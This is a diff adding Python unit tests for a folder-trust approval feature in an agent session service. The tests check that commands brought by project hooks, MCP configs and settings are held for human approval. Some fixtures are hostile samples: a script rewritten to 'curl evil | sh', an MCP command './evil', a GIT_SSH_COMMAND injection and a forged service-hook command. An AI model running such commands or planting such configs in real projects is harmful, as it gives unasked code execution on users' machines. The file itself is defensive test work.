@@ -1,0 +1,464 @@
+"""Sessions in folders that bring something that runs: asked about, remembered, asked again."""
+
+from __future__ import annotations
+
+import json
+import os
+from functools import partial
+from pathlib import Path
+from typing import Any
+
+from attrs import evolve
+
+from tests.unit.agents.approvals_rig import ApprovalCase
+from tests.unit.sessions.rig import ADMIN, begin
+from tservice.agents.approvals.model import Item
+from tservice.agents.foldertrust.preview import FolderPreview
+from tservice.agents.foldertrust.store import KEPT, TrustStore
+from tservice.core.errors import ErrorCode, ServiceError
+from tservice.sessions.record.model import Session
+
+HOOK = {
+    "hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "sh scripts/run.sh"}]}]}
+}
+
+
+class FolderTrustCase(ApprovalCase):
+    """Tests with a folder and what it brings."""
+
+    def bring(self, path: str, content: Any, below: Path | None = None) -> Path:
+        """Put a file into the folder."""
+        file = (below or self.work) / path
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_text(content if isinstance(content, str) else json.dumps(content))
+        return file
+
+    def install(self, program: str) -> None:
+        """Have a CLI on the machine."""
+        self.bring(program, "#!/bin/sh", below=self.machine.folder / "bin").chmod(0o755)
+
+    def is_running(self, session: Session) -> bool:
+        return self.sessions.get(session.id).pid is not None
+
+    def restart(self, session: Session) -> None:
+        """Stop it and start it again, as somebody who asks for it."""
+        self.run_now(self.sessions.stop(session.id, "asked"))
+        self.run_now(self.sessions.start(session.id, granted=True))
+
+    def refused_restart(self, session: Session) -> ServiceError:
+        self.run_now(self.sessions.stop(session.id, "asked"))
+        started = begin(self.sessions.start(session.id, granted=True))
+        error: ServiceError = self.failureResultOf(started, ServiceError).value
+        return error
+
+    def answered(self, session: Session, action: str, **fields: Any) -> None:
+        given = self.start_answer(self.item(session), action, **fields)
+        self.successResultOf(given)
+
+    def waiting(self, mode: str = "primary") -> Session:
+        """A session that was made and has not started, for its folder is asked about."""
+        session = self.agent(mode=mode)
+        self.assertFalse(self.is_running(session))
+        self.assertIsNotNone(self.inbox.of_session(session.id))
+        return session
+
+    def assert_starts(self, mode: str = "primary") -> None:
+        session = self.agent(mode=mode)
+        self.assertTrue(self.is_running(session))
+        self.assertIsNone(self.inbox.of_session(session.id))
+
+    def found(self, mode: str = "primary") -> str:
+        """What people are told that the folder brings."""
+        found = self.agents.trust.find(mode, ADMIN.place, str(self.work), None, {})
+        return str(self.run_now(found).summary())
+
+
+class AskedTests(FolderTrustCase):
+    """Question and answer."""
+
+    def test_a_folder_without_anything_is_not_asked_about(self) -> None:
+        self.bring("README.md", "# hooks")
+        self.bring(".claude/CLAUDE.md", "be kind")
+        self.bring(".claude/settings.json", {"model": "opus", "permissions": {"deny": ["Bash"]}})
+        self.assert_starts()
+
+    def test_a_hook_does_not_run_before_somebody_answered(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        session = self.waiting()
+        item = self.item(session)
+        self.assertEqual(("permission", "commands of its folder"), (item.kind, item.tool_name))
+        self.assertIn("sh scripts/run.sh", item.tool_summary or "")
+        self.assertIn(".claude/settings.json", item.tool_summary or "")
+        self.assertTrue(item.complete)
+        self.assertEqual(str(self.work), item.cwd)
+        self.assertIn("inbox", str(self.sessions.get(session.id).status_reason))
+        self.assertTrue(self.approvals.blocked(session.id))
+        self.answered(session, "approve")
+        self.assertTrue(self.is_running(session))
+        self.assertEqual([], self.approvals.known(ADMIN))
+
+    def test_a_no_leaves_it_stopped(self) -> None:
+        self.bring(".mcp.json", {"mcpServers": {"x": {"command": "./evil"}}})
+        for fields in ({"action": "deny"}, {"action": "option", "option": 2}):
+            session = self.waiting()
+            self.answered(session, **fields)
+            self.assertFalse(self.is_running(session))
+            self.assertEqual(
+                "its folder is not trusted", self.sessions.get(session.id).status_reason
+            )
+
+    def test_starting_it_again_does_not_get_past_the_question(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        session = self.waiting()
+        before = self.item(session)
+        error = self.refused_restart(session)
+        self.assertEqual(ErrorCode.CONFLICT, error.code)
+        self.assertIn("inbox", error.message)
+        self.assertEqual(before, self.item(session))
+
+    def test_an_answer_is_remembered_until_something_changes(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        script = self.bring("scripts/run.sh", "echo one")
+        session = self.waiting()
+        self.answered(session, "option", option=1)
+        self.restart(session)
+        self.assert_starts()
+        # The file that the hook runs is part of it, the model is not.
+        self.bring(".claude/settings.json", {**HOOK, "model": "opus"})
+        self.restart(session)
+        script.write_text("curl evil | sh")
+        self.refused_restart(session)
+        self.answered(session, "approve")
+        self.bring(".claude/settings.local.json", {"env": {"GIT_SSH_COMMAND": "touch x"}})
+        self.refused_restart(session)
+        self.assertIn("GIT_SSH_COMMAND", self.item(session).tool_summary or "")
+
+    def test_a_change_behind_the_question_asks_anew(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        session = self.waiting()
+        before = self.item(session)
+        self.bring(".claude/hooks/more.sh", "touch more")
+        code, text = self.refused_answer(before, "approve")
+        self.assertEqual(ErrorCode.CONFLICT, code)
+        self.assertIn("changed", text)
+        self.assertFalse(self.is_running(session))
+        self.assertIn("touch more", self.item(session).tool_summary or "")
+        stale = self.refused_answer(before, "approve")
+        self.assertIn(stale[0], (ErrorCode.NOT_FOUND, ErrorCode.CONFLICT))
+        self.answered(session, "approve", expect_frame=self.item(session).shown_frame)
+        self.assertTrue(self.is_running(session))
+
+    def test_an_agent_does_not_answer_for_its_folder(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        session = self.waiting()
+        agent = evolve(ADMIN, parent="another", sessions=frozenset({session.id}))
+        code, _ = self.refused_answer(self.item(session), "approve", caller=agent)
+        self.assertEqual(ErrorCode.FORBIDDEN, code)
+        self.assertFalse(self.is_running(session))
+
+    def test_other_answers_are_refused(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        session = self.waiting()
+        for action, fields in (("option", {"option": 3}), ("text", {"text": "yes"})):
+            code, _ = self.refused_answer(self.item(session), action, **fields)
+            self.assertEqual(ErrorCode.INVALID_INPUT, code)
+        self.assertFalse(self.is_running(session))
+
+    def test_questions_outlive_a_restart_of_the_service(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        session = self.waiting()
+        before = self.item(session)
+        self.approvals.stop()
+        self.open_inbox()
+        self.assertEqual(before, self.item(session))
+        self.answered(session, "approve")
+        self.assertTrue(self.is_running(session))
+
+
+class PreviewTests(FolderTrustCase):
+    """What is told before there is a session."""
+
+    def tell(self, **fields: str | None) -> dict[str, Any]:
+        place = {"mode": "primary", "case_name": None, "working_dir": str(self.work), **fields}
+        preview = FolderPreview(self.agents.trust, self.machine.cases)
+        told = self.run_now(preview.tell(caller=ADMIN, **place))  # type: ignore[arg-type]
+        found: dict[str, Any] = told.model_dump(by_alias=True)
+        return found
+
+    def test_each_state(self) -> None:
+        self.assertEqual("nothing", self.tell()["state"])
+        self.bring(".claude/settings.json", HOOK)
+        told = self.tell()
+        self.assertEqual(
+            ("asks", str(self.work), [".claude/settings.json"], 0),
+            (told["state"], told["workingDir"], told["paths"], told["missing"]),
+        )
+        self.assertIn("sh scripts/run.sh", told["summary"])
+        self.assertEqual("nothing", self.tell(mode="codex")["state"])
+        self.answered(self.waiting(), "approve")
+        self.assertEqual("trusted", self.tell()["state"])
+        self.change_settings(trust_folders="ask")
+        self.assertEqual("asks", self.tell(mode="codex")["state"])
+        self.change_settings(trust_folders="always")
+        self.assertEqual("nothing", self.tell()["state"])
+
+    def test_what_is_not_the_callers_is_refused(self) -> None:
+        tell = partial(FolderPreview(self.agents.trust, self.machine.cases).tell, "primary")
+        for code, case_name, folder in (
+            (ErrorCode.INVALID_INPUT, None, "/proc/self/cwd"),
+            (ErrorCode.NOT_FOUND, "nope", None),
+        ):
+            self.assert_refused(code, tell(case_name, folder, ADMIN))
+
+
+class SettingTests(FolderTrustCase):
+    """C{trustFolders}, and the inbox that it needs."""
+
+    def test_always(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        session = self.waiting()
+        self.change_settings(trust_folders="always")
+        self.run_now(self.sessions.start(session.id, granted=True))
+        self.assertTrue(self.is_running(session))
+        self.assertIsNone(self.inbox.of_session(session.id))
+        self.assert_starts()
+
+    def test_ask(self) -> None:
+        self.change_settings(trust_folders="ask")
+        session = self.waiting()
+        self.assertEqual("Nothing that runs was found.", self.item(session).tool_summary)
+        self.answered(session, "approve")
+        self.restart(session)
+        self.waiting("codex")
+        self.assertTrue(self.is_running(self.agent(mode="shell")))
+
+    def test_without_an_inbox_it_says_what_to_do(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        session = self.waiting()
+        self.change_settings(approvals_inbox_enabled=False)
+        self.assertIsNone(self.inbox.of_session(session.id))
+        self.assertIn("approvalsInboxEnabled", self.refused_restart(session).message)
+
+    def test_another_setting_leaves_the_question(self) -> None:
+        self.install("agy")
+        self.bring(".agents/mcp_config.json", "{}")
+        self.change_settings(external_signals=False)
+        session = self.waiting("antigravity")
+        self.change_settings(external_signals=True)
+        self.assertIsNotNone(self.inbox.of_session(session.id))
+
+
+class FoundTests(FolderTrustCase):
+    """What counts."""
+
+    def test_each_cli_has_its_own_files(self) -> None:
+        brought = {
+            "primary": (".claude/settings.local.json", {"permissions": {"allow": ["Bash"]}}),
+            "opencode": ("opencode.json", {"mcp": {"x": {"command": ["sh"]}}}),
+            "codex": (".codex/config.toml", 'notify = ["touch", "x"]'),
+            "gemini": (".gemini/settings.json", {"mcpServers": {"x": {"command": "sh"}}}),
+            "pi": (".pi/extensions/a.ts", "run()"),
+            "antigravity": (".agents/hooks.json", "{}"),
+        }
+        for mode, (path, content) in brought.items():
+            file = self.bring(path, content)
+            for other in brought:
+                # Antigravity reads what Gemini CLI does.
+                asks = other == mode or (mode, other) == ("gemini", "antigravity")
+                told = self.found(other)
+                self.assertEqual(asks, path in told, (mode, other, told))
+            file.unlink()
+
+    def test_a_cli_that_does_not_say_brings_those_of_all(self) -> None:
+        self.bring(".pi/extensions/a.ts", "run()")
+        self.bring(".codex/hooks.json", "{}")
+        entry = self.machine.clis.require("codex")
+        can = entry.capabilities.model_copy(update={"folder_config": None})
+        unsure = entry.model_copy(update={"capabilities": can})
+        self.patch(self.machine.clis, "get", lambda mode: unsure)
+        told = self.found("anything")
+        self.assertIn(".pi/extensions/a.ts", told)
+        self.assertIn(".codex/hooks.json", told)
+
+    def test_front_matter_of_agents_and_skills(self) -> None:
+        harmless = (
+            "---\nname: a\ndescription: |\n  hooks: x\n\n# c\nmodel: opus\n---\nhooks: none\n"
+        )
+        self.bring(".claude/agents/a.md", harmless)
+        self.bring(".claude/skills/a/SKILL.md", "no front matter")
+        self.bring(".claude/skills/a/run.py", "print()")
+        self.assertEqual("Nothing that runs was found.", self.found())
+        for odd in (
+            "---\nname: a\nhooks:\n  SessionStart: x\n---\n",
+            '---\n"hooks": {}\n---\n',
+            "---\n{hooks: {}}\n---\n",
+            "\ufeff---\r\nallowed-tools: Bash\r\n---\r\n",
+            "---\nname: a\n",
+            "---\nname: a\u2028hooks: x\n---\n",
+        ):
+            self.bring(".claude/skills/b/SKILL.md", odd)
+            self.assertIn(".claude/skills/b/SKILL.md", self.found(), odd)
+
+    def test_what_does_not_read_as_settings_counts_whole(self) -> None:
+        for odd in ('{"hooks": {', "[]", "\ufeff{}", "[" * 100_000, '{"a": NaN}'):
+            self.bring(".claude/settings.json", odd)
+            self.assertIn(".claude/settings.json", self.found(), odd[:20])
+        for empty in ("", "{}", '{"hooks": {"Stop": [{"hooks": []}]}, "env": {}}'):
+            self.bring(".claude/settings.json", empty)
+            self.assertEqual("Nothing that runs was found.", self.found(), empty)
+
+    def test_the_hooks_of_the_service_do_not_count(self) -> None:
+        self.assert_starts()
+        path = self.work / ".claude/settings.local.json"
+        written = json.loads(path.read_text())
+        self.assertTrue(written["hooks"]["SessionStart"])
+        self.assert_starts()
+        # What only looks like one of them does.
+        (group,) = written["hooks"]["SessionStart"]
+        forged = "touch x # /api/hook-event SERVICE_HOOK_SECRET_FILE"
+        group["hooks"][0]["command"] = forged
+        self.bring(".claude/settings.json", {"hooks": {"SessionStart": [group]}})
+        self.assertIn(forged, self.item(self.waiting()).tool_summary or "")
+
+    def test_folders_above_count_up_to_the_top_of_the_repository(self) -> None:
+        inner = self.work / "packages/web"
+        inner.mkdir(parents=True)
+        self.bring(".mcp.json", {"mcpServers": {"x": {"command": "sh"}}})
+        top, self.work = self.work, inner
+        self.assertEqual("Nothing that runs was found.", self.found())
+        (top / ".git").mkdir()
+        self.assertIn("../../.mcp.json", self.found())
+
+    def test_the_home_folder_is_the_users_own(self) -> None:
+        home = self.machine.home
+        home.mkdir(exist_ok=True)
+        self.bring(".claude/settings.json", HOOK, below=home)
+        (home / ".git").mkdir()
+        self.work = home
+        self.assertEqual("Nothing that runs was found.", self.found())
+        self.work = home / "project"
+        self.work.mkdir()
+        self.assertEqual("Nothing that runs was found.", self.found())
+
+    def test_secrets_are_not_shown(self) -> None:
+        self.bring(".env", "TOKEN=hidden")
+        told = self.found("gemini")
+        self.assertIn(".env", told)
+        self.assertNotIn("hidden", told)
+
+    def test_control_characters_are_not_shown(self) -> None:
+        self.bring(".pi/extensions/a.ts", "x\u202ey\x1b[2J")
+        self.assertIn("x\ufffdy\ufffd[2J", self.found("pi"))
+
+    def test_a_long_text_says_how_much_is_missing(self) -> None:
+        self.install("pi")
+        self.bring(".pi/extensions/a.ts", "a" * 20_000)
+        item: Item = self.item(self.waiting("pi"))
+        self.assertEqual((16_000, False), (len(item.tool_summary or ""), item.complete))
+        self.assertEqual(20_000 + len(".pi/extensions/a.ts\n") - 16_000, item.tool_missing)
+
+
+class UnreadableTests(FolderTrustCase):
+    """What cannot be read brings something, and is asked about at every start."""
+
+    def assert_always_asks(self, mode: str = "primary") -> Session:
+        session = self.waiting(mode)
+        self.assertIn("cannot be read", self.item(session).tool_summary or "")
+        self.answered(session, "approve")
+        self.assertTrue(self.is_running(session))
+        self.refused_restart(session)
+        return session
+
+    def test_a_link_that_leads_out(self) -> None:
+        secret = self.bring("secret.json", HOOK, below=self.machine.folder)
+        (self.work / ".mcp.json").symlink_to(secret)
+        session = self.assert_always_asks()
+        self.assertNotIn("scripts/run.sh", self.item(session).tool_summary or "")
+
+    def test_a_folder_behind_a_link_that_leads_out(self) -> None:
+        elsewhere = self.machine.folder / "elsewhere"
+        self.bring("settings.json", HOOK, below=elsewhere)
+        (self.work / ".codex").symlink_to(elsewhere)
+        self.assert_always_asks("codex")
+
+    def test_links_inside(self) -> None:
+        self.bring("shared/settings.json", HOOK)
+        self.bring("shared/a/SKILL.md", "harmless")
+        (self.work / ".claude").symlink_to("shared")
+        self.assert_always_asks()
+        (self.work / ".claude").unlink()
+        (self.work / ".claude/skills").mkdir(parents=True)
+        self.assertEqual("Nothing that runs was found.", self.found())
+        (self.work / ".claude/skills/a").symlink_to("../../shared/a")
+        self.assert_always_asks()
+
+    def test_what_a_hook_names_is_never_read_elsewhere(self) -> None:
+        outside = self.bring("outside.sh", "echo one", below=self.machine.folder)
+        link = self.work / "run.sh"
+        link.symlink_to(outside)
+        command = "sh run.sh ../outside.sh; sh $CLAUDE_PROJECT_DIR/real.sh"
+        hook = {"type": "command", "command": command}
+        self.bring(".claude/settings.json", {"hooks": {"Stop": [{"hooks": [hook]}]}})
+        real = self.bring("real.sh", "echo two")
+        find = partial(self.agents.trust.find, "primary", ADMIN.place, str(self.work), None, {})
+        before = self.run_now(find())
+        outside.write_text("echo three")
+        self.assertEqual(before, self.run_now(find()))
+        real.write_text("echo four")
+        after = self.run_now(find())
+        self.assertNotEqual(before.digest, after.digest)
+        # Nobody sees a change behind the link, so the answer does not last.
+        self.assertFalse(after.lasting)
+        link.unlink()
+        self.assertTrue(self.run_now(find()).lasting)
+
+    def test_a_pipe(self) -> None:
+        os.mkfifo(self.work / ".mcp.json")
+        self.assert_always_asks()
+
+    def test_more_than_the_bounds(self) -> None:
+        for name, bring in (
+            (".mcp.json", lambda: self.bring(".mcp.json", " " * 1024 * 1024 + "{}")),
+            (".claude/hooks/", lambda: [self.bring(f".claude/hooks/{n}", "") for n in range(401)]),
+            ("deep", lambda: self.bring(".claude/hooks/" + "d/" * 14 + "x.sh", "touch x")),
+        ):
+            self.work = self.work.parent / f"work-{name.strip('./').replace('/', '-')}"
+            self.work.mkdir()
+            bring()
+            self.assert_always_asks()
+
+    def test_a_folder_where_a_file_is_expected_brings_nothing(self) -> None:
+        (self.work / ".env").mkdir()
+        self.assertEqual("Nothing that runs was found.", self.found("gemini"))
+
+
+class OwnersTests(FolderTrustCase):
+    """Answers are an account's own."""
+
+    multiuser = True
+
+    def test_answers_are_kept_for_the_owner_of_the_session(self) -> None:
+        self.bring(".claude/settings.json", HOOK)
+        session = self.waiting()
+        self.answered(session, "approve")
+        digest = self.machine.database.query_one("SELECT * FROM trusted_folders")
+        assert digest is not None
+        self.assertEqual((ADMIN.username, str(self.work)), (digest["owner"], digest["working_dir"]))
+
+    def test_the_oldest_of_too_many_is_asked_for_again(self) -> None:
+        store = TrustStore(self.clock, self.machine.database)
+        for number in range(KEPT + 1):
+            store.save("ann", str(number), "/work")
+            self.clock.advance(1)
+        store.save("bob", "0", "/work")
+        known = [store.knows("ann", str(number)) for number in (0, 1, KEPT)]
+        self.assertEqual([False, True, True], known)
+        self.assertTrue(store.knows("bob", "0"))
+
+    def test_answers_go_with_the_account(self) -> None:
+        store = TrustStore(self.clock, self.machine.database)
+        for owner in ("", "ann", "bob"):
+            store.save(owner, "0", "/work")
+        store.forget_strangers(lambda name: name == "bob")
+        known = [store.knows(owner, "0") for owner in ("", "ann", "bob")]
+        self.assertEqual([True, False, True], known)
